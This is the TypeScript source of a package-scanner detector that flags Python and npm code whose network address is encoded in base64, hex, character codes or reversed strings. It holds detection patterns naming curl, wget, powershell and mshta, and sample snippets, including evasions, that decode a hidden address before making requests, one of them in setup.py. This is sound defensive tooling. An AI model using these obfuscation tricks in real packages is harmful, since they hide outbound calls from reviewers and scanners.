import { marks, mayDo } from "../behaviour/marks.ts";
import type { Detector } from "../detector.ts";
import { folds } from "../languages/calls.ts";
import type { SourceFile } from "../model.ts";
import { isCode, isMember, sight } from "./_sight.ts";

/** Decoding by something whose only use is to make text unreadable or small. */
const DECODES =
  /b(?:64|32|16|85)|a85|hex|rot.?13|decompress|inflate|gunzip|decrypt|atob|Buffer|from\b|a slice|reverse|translate|fromCharCode|chr|join|function of the file|unquote/i;
/** An address at the beginning, or in a command that fetches. */
const ADDRESS =
  /^(?:https?|wss?|ftp|tcp):\/\/(?!(?:www\.)?w3\.org|schemas?\.|localhost|127\.)[^\s"'<>/]{4,253}(?:[/?#:]|$)|\b(?:curl|wget|iwr|powershell|mshta)\b[^\n]{0,200}https?:\/\//i;
const LONGEST = 2_000;
/** Beginnings of encoded addresses and commands: base64, hexadecimal, backwards, codes of characters, escapes. */
const HINT =
  /aHR0c|d3Nz|d3M6|Y3Vyb|cG93ZXJz|68747470|ptth|104\D{1,9}116\D{1,9}116\D{1,9}112|x68\W{1,5}x74|u0068\W{1,5}u0074|fromCharCode|rot.?13/i;
/** A longer script is read as a whole only where a hint says that it might pay: folding a bundle takes seconds. */
const READ_ANYWAY = 64_000;
/** Files of tests hold encoded addresses as test data. */
const TESTS =
  /(?:^|\/)(?:tests?|testing|testdata|fixtures?|docs?|examples?)\/|(?:^|\/)(?:test_[^/]{1,80}|[^/]{1,80}_test|conftest)\.py$/i;
const LITERALS = [...marks("decode"), "chr(", "fromcharcode", "ptth"];

export const hidesAddress: Detector = {
  id: "hides-address",
  title: "The address that the code talks to is encoded",
  severity: "high",
  ecosystems: ["pypi", "npm"],
  points: 5.6,
  class: "threat",
  group: "hidden-address",
  why: `An address is written in base64, hexadecimal, as character codes or backwards, and decoded where the code uses it. Encoding keeps
nobody out who runs the code; it only keeps the address from readers, search and scanners.

Test data holds encoded addresses too; files of tests are passed over.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of tree.files) {
      if (!isCode(file) || !file.hits.hasAny(LITERALS) || TESTS.test(file.path)) continue;
      if (file.kind !== "python" && !isMember(file)) continue;
      if (!mayDo(file, ["http", "upload", "socket", "start", "run-code"])) continue;
      if (file.kind !== "python" && file.text.length > READ_ANYWAY && !HINT.test(file.text)) continue;
      yield* hidden(file);
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode()\nrequests.post(u, json={'a': 1})\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "index.js": "const u = atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==');\nfetch(u).then((r) => r.text());\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import base64, requests\nt = base64.b64decode(text)\nu = '/'.join(['https://example.invalid', 'a'])\nrequests.get(u)\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "tests/test_a.py":
            "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode()\nrequests.get(u)\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: { "demo/a.py": "from urllib.request import urlopen\nurlopen('a/dilavni.elpmaxe//:sptth'[::-1])\n" },
      },
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import requests\nd = [104, 116, 116, 112, 58, 47, 47, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100]\nrequests.get(''.join(chr(c) for c in d))\n",
        },
      },
    ],
  },
};

function* hidden(file: SourceFile) {
  for (const { text, how, token } of folds(file)) {
    if (text.length > LONGEST || !DECODES.test(how)) continue;
    const match = ADDRESS.exec(text);
    if (match === null || isWrittenOut(file, text)) continue;
    const say = text.slice(0, 120).replace(/\s+/g, " ");
    yield sight(file, file.tokens.start(token), `the address ${say} is encoded (${how.slice(-60)})`);
    return;
  }
}

/** The host stands in the file as it is: nothing was hidden. */
function isWrittenOut(file: SourceFile, text: string): boolean {
  const host = /:\/\/([^/\s"'<>?#:]{1,253})/.exec(text)?.[1] ?? text;
  return file.text.includes(host);
}
